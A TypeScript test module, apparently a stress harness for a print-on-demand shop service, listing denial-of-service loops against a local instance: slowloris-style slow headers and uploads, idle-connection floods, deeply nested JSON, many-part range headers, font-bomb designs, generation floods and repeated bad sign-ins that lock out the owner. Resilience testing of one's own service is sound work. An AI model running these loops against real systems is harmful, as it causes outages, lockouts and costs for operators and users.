/** Every known way to make the service slow, full or silent, each as a loop that runs until it is stopped. */
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { WebSocket } from 'ws';
import {
  address,
  asked,
  buyer,
  buyPath,
  comments,
  dashUpload,
  form,
  hold,
  json,
  keyOf,
  longFilter,
  manyNames,
  manySearches,
  mockupPath,
  progressiveJpeg,
  repeat,
  sheetOf,
  shopFiles,
  shopOf,
  type Target,
  tailUpload,
  textUpload,
  upload,
} from './attack-kit.ts';
import { bombAddress, bombDesign, keepBomb } from './bombs.ts';

export type Attack = { name: string; run(target: Target, signal: AbortSignal): Promise<void> };

export const attacks: readonly Attack[] = [
  {
    name: 'upgrade of //[',
    run: (target, signal) =>
      repeat(
        signal,
        2,
        200,
        () =>
          new Promise((resolve) => {
            const socket = connect(Number(target.origin.port), '127.0.0.1');
            socket.on('error', resolve);
            socket.on('close', resolve);
            socket.end(`GET //[ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`);
          }),
      ),
  },
  {
    name: 'svg comments',
    run: (target, signal) =>
      repeat(signal, 3, 50, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), comments)),
  },
  {
    name: 'svg text',
    run: (target, signal) =>
      repeat(signal, 6, 20, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), textUpload)),
  },
  {
    name: 'svg dashes',
    run: (target, signal) =>
      repeat(signal, 6, 20, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), dashUpload)),
  },
  {
    name: 'svg as artwork',
    run: (target, signal) =>
      repeat(signal, 6, 20, (n) =>
        asked(target, 'GET', mockupPath(target, n, `${target.lair}/${n % 2 ? 'svg' : 'dashes'}?${n}`), {}),
      ),
  },
  {
    name: 'buy form: e-mail',
    run: (target, signal) =>
      repeat(signal, 4, 50, () =>
        asked(target, 'POST', buyPath(target, ''), form, `${buyer}&country=US&email=${'%40.'.repeat(1500)}`),
      ),
  },
  {
    name: 'buy form: recipients',
    run: (target, signal) =>
      repeat(signal, 2, 50, () =>
        asked(
          target,
          'POST',
          buyPath(target, ''),
          form,
          `${buyer}&country=US&email=${'a%40example.com,'.repeat(1000)}b%40example.com`,
        ),
      ),
  },
  {
    name: 'buy form: large artwork',
    run: (target, signal) =>
      repeat(signal, 8, 20, (n) =>
        asked(
          target,
          'POST',
          buyPath(target, `${target.lair}/big?${n}`),
          form,
          `${buyer}&country=US&email=a%40example.com`,
        ),
      ),
  },
  {
    name: 'buy form: country',
    run: (target, signal) =>
      repeat(signal, 2, 30, () =>
        asked(target, 'POST', buyPath(target, ''), form, `${buyer}&country=!!&email=a%40example.com`),
      ),
  },
  {
    name: 'chat: spaces',
    run: (target, signal) =>
      repeat(signal, 4, 50, (n) =>
        asked(
          target,
          'POST',
          '/v1/ai-generations/chat/start',
          keyOf(target, n),
          JSON.stringify({ messages: [{ role: 'user', content: `a${' '.repeat(7000)}b` }] }),
        ),
      ),
  },
  {
    name: 'chat: backlog of one key',
    run: (target, signal) =>
      repeat(signal, 4, 30, (n) =>
        asked(
          target,
          'POST',
          '/v1/ai-generations/chat/start',
          keyOf(target, 0),
          JSON.stringify({ messages: [{ role: 'user', content: `make 4 designs of a fox number ${n} on a mug` }] }),
        ),
      ),
  },
  {
    name: 'chat: backlog of many keys',
    run: (target, signal) =>
      repeat(signal, 4, 30, (n) =>
        asked(
          target,
          'POST',
          '/v1/ai-generations/chat/start',
          keyOf(target, n),
          JSON.stringify({ messages: [{ role: 'user', content: `make 4 designs of a fox number ${n} on a mug` }] }),
        ),
      ),
  },
  {
    name: 'order: unknown names',
    run: (target, signal) =>
      repeat(signal, 3, 50, (n) => asked(target, 'POST', '/v1/orders', keyOf(target, n), manyNames)),
  },
  {
    name: 'search: long filter',
    run: (target, signal) =>
      repeat(signal, 3, 30, () =>
        asked(
          target,
          'POST',
          '/search/indexes/products/search',
          { ...json, authorization: 'Bearer pk_public_catalog' },
          longFilter,
        ),
      ),
  },
  {
    name: 'search: many at once',
    run: (target, signal) =>
      repeat(signal, 3, 30, () =>
        asked(
          target,
          'POST',
          '/search/multi-search',
          { ...json, authorization: 'Bearer pk_public_catalog' },
          manySearches,
        ),
      ),
  },
  {
    name: 'sign-ins',
    run: (target, signal) =>
      repeat(signal, 40, 10, (n) =>
        asked(
          target,
          'POST',
          '/api/auth/sign-in/email',
          json,
          JSON.stringify({ email: `nobody${n}@example.com`, password: 'wrong passphrase' }),
        ),
      ),
  },
  {
    name: 'lock the owner out',
    run: (target, signal) =>
      repeat(signal, 4, 50, () =>
        asked(
          target,
          'POST',
          '/api/auth/sign-in/email',
          json,
          JSON.stringify({ email: target.victim.email, password: 'wrong passphrase' }),
        ),
      ),
  },
  {
    name: 'progressive jpegs',
    run: async (target, signal) => {
      const body = upload(await progressiveJpeg);
      await repeat(signal, 8, 20, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), body));
    },
  },
  {
    name: 'jpegs as artwork',
    run: (target, signal) =>
      repeat(signal, 6, 20, (n) => asked(target, 'GET', mockupPath(target, n, `${target.lair}/jpeg?${n}`), {})),
  },
  {
    name: 'png with a tail',
    run: (target, signal) =>
      repeat(signal, 2, 100, (n) => asked(target, 'POST', '/v1/uploads/base64', keyOf(target, n), tailUpload)),
  },
  {
    name: 'slow uploads',
    run: (target, signal) =>
      hold(
        target,
        signal,
        24,
        `POST /v1/uploads/base64 HTTP/1.1\r\nHost: x\r\nx-api-key: ${target.shops[0]!.key}\r\nContent-Type: application/json\r\nContent-Length: 50000000\r\n\r\n{"base64Image":"`,
        'AAAA'.repeat(50),
        500,
      ),
  },
  {
    name: 'slow heads',
    run: (target, signal) => hold(target, signal, 200, 'GET / HTTP/1.1\r\nHost: x\r\n', 'X-A: b\r\n', 2000),
  },
  {
    name: 'idle connections',
    run: (target, signal) => hold(target, signal, 400, 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n', '', 5000),
  },
  {
    name: 'slow artwork',
    run: (target, signal) =>
      repeat(signal, 40, 10, (n) => asked(target, 'GET', mockupPath(target, n, `${target.lair}/slow?${n}`), {})),
  },
  {
    name: 'mockup misses',
    run: (target, signal) =>
      repeat(signal, 12, 0, (n) =>
        asked(
          target,
          'GET',
          `/mockup/HOODIE-PULLOVER?shop=${shopOf(target, n).shopId}&width=2000&bg=${(n % 0xffffff).toString(16).padStart(6, '0')}`,
          { 'x-forwarded-for': `10.66.1.${n % 4}` },
        ),
      ),
  },
  {
    name: 'clients that leave',
    run: (target, signal) =>
      repeat(
        signal,
        6,
        20,
        (n) =>
          new Promise<void>((resolve) => {
            const path = `/mockup/TEE-UNISEX?shop=${shopOf(target, n).shopId}&width=1400&bg=${(n % 0xffffff).toString(16).padStart(6, '0')}`;
            const leaving = httpRequest({
              host: '127.0.0.1',
              port: target.origin.port,
              path,
              headers: { 'x-forwarded-for': address() },
            });
            leaving.on('error', () => resolve());
            leaving.on('response', () => {
              leaving.destroy();
              resolve();
            });
            leaving.end();
            setTimeout(
              () => {
                leaving.destroy();
                resolve();
              },
              5 + (n % 40),
            );
          }),
      ),
  },
  {
    name: 'painting',
    run: (target, signal) =>
      repeat(signal, 8, 20, (n) =>
        asked(
          target,
          'POST',
          '/v1/ai-generations/generate',
          keyOf(target, n),
          JSON.stringify({ prompt: `a fox number ${n}`, numberResults: 8, width: 2048, height: 2048 }),
        ),
      ),
  },
  {
    name: 'idempotency keys',
    run: (target, signal) =>
      repeat(signal, 6, 10, (n) =>
        asked(
          target,
          'POST',
          '/v1/ai-generations/generate',
          { ...keyOf(target, n), 'idempotency-key': `k${performance.now()}-${n}` },
          '{"prompt":""}',
        ),
      ),
  },
  {
    name: 'mints',
    run: (target, signal) => repeat(signal, 4, 20, () => asked(target, 'POST', '/v1/shops/sandbox', json, '{}')),
  },
  {
    name: 'large JSON',
    run: (target, signal) =>
      repeat(signal, 4, 30, (n) =>
        asked(target, 'POST', '/v1/orders', keyOf(target, n), `{"items":${'['.repeat(400_000)}`),
      ),
  },
  {
    name: 'live renders',
    run: (target, signal) =>
      repeat(signal, 6, 100, async (n) => {
        const { shopId } = shopOf(target, n);
        const answer = (await asked(target, 'POST', '/v1/realtime/grant', json, JSON.stringify({ shop: shopId }))) as {
          text: string;
        };
        const { token } = JSON.parse(answer.text);
        const socket = new WebSocket(`ws://127.0.0.1:${target.origin.port}/realtime?token=${token}`);
        const layer = { id: 'a', type: 'text', text: 'mW '.repeat(600), x: 0, y: 0, fontSize: 20, width: 600 };
        socket.on('error', () => {});
        socket.on('open', () => {
          for (let i = 0; i < 30; i += 1)
            socket.send(
              JSON.stringify({
                type: 'render',
                id: i,
                product: 'MUG-11OZ',
                placement: 'Front',
                width: 2000,
                canvas: { version: 2, width: 1063, height: 992, layers: [{ ...layer, x: i }] },
              }),
            );
        });
        await new Promise((resolve) => setTimeout(resolve, 3000));
        socket.terminate();
      }),
  },
  {
    name: 'font bomb: live pictures',
    run: (target, signal) =>
      repeat(signal, 6, 100, async (n) => {
        const canvas = bombDesign(await keepBomb(target, n));
        const grant = await asked(
          target,
          'POST',
          '/v1/realtime/grant',
          json,
          JSON.stringify({ shop: shopOf(target, n).shopId }),
        );
        const socket = new WebSocket(
          `ws://127.0.0.1:${target.origin.port}/realtime?token=${JSON.parse((grant as { text: string }).text).token}`,
        );
        const render = { type: 'render', product: 'MUG-11OZ', placement: 'Front', canvas };
        const ended = new Promise((resolve) => socket.on('close', resolve));
        socket.on('error', () => {});
        socket.on('open', () => {
          for (let id = 1; id <= 2; id += 1) socket.send(JSON.stringify({ ...render, id }));
        });
        // Both get an answer, in time or not.
        socket.on('message', (data: Buffer) => {
          if (data.toString('utf8', 0, 300).includes('"id":2')) socket.close();
        });
        signal.addEventListener('abort', () => socket.terminate(), { once: true });
        await ended;
      }),
  },
  {
    name: 'font bomb: print orders',
    run: (target, signal) =>
      repeat(signal, 4, 500, async (n) => {
        const canvas = bombDesign(await keepBomb(target, n));
        const design = { product: 'MUG-11OZ', placement: 'Front', canvas };
        const ask = async (path: string, body: object) =>
          JSON.parse(
            ((await asked(target, 'POST', path, keyOf(target, n), JSON.stringify(body))) as { text: string }).text,
          );
        const { id: canvasId } = await ask('/v1/canvases', design);
        const items = [{ sku: 'MUG-11OZ', variantId: target.mugVariantId, quantity: 1, canvasId }];
        for (let order = 0; order < 3; order += 1) await ask('/v1/orders', { items, shipTo: bombAddress });
      }),
  },
  {
    name: 'range requests',
    run: (target, signal) =>
      repeat(signal, 6, 10, () => asked(target, 'GET', '/', { range: `bytes=${'0-0,'.repeat(800)}0-0` })),
  },
  {
    name: 'product feeds',
    // Each change makes every file of the shop outdated, so that all must be written again.
    run: (target, signal) =>
      repeat(signal, 8, 20, async (n) => {
        const { shopId, key, listingId } = target.seller;
        const own = { ...json, 'x-api-key': key };
        if (n % 8 === 0) await asked(target, 'PATCH', `/v1/listings/${listingId}`, own, `{"title":"Fox ${n}"}`);
        await asked(target, 'GET', `/buy/s/${shopId}/${shopFiles[n % shopFiles.length]}`, {});
      }),
  },
  {
    name: 'listings of a sandbox',
    run: (target, signal) =>
      repeat(signal, 2, 50, async (n) => {
        const { shopId, secret } = shopOf(target, n);
        const sheet = sheetOf(1_000, `${target.lair}/svg`);
        const headers = { 'content-type': 'text/csv', authorization: `Bearer ${secret}` };
        await asked(target, 'POST', '/v1/listings/import', headers, sheet);
        await asked(target, 'GET', `/buy/s/${shopId}/feeds/google.xml`, {});
      }),
  },
  {
    name: 'spreadsheets',
    run: (target, signal) =>
      repeat(signal, 6, 20, () => asked(target, 'GET', '/v1/listings/export', { 'x-api-key': target.seller.key })),
  },
  {
    name: 'the API document',
    run: (target, signal) => repeat(signal, 6, 20, () => asked(target, 'GET', '/v1/openapi.json', {})),
  },
];
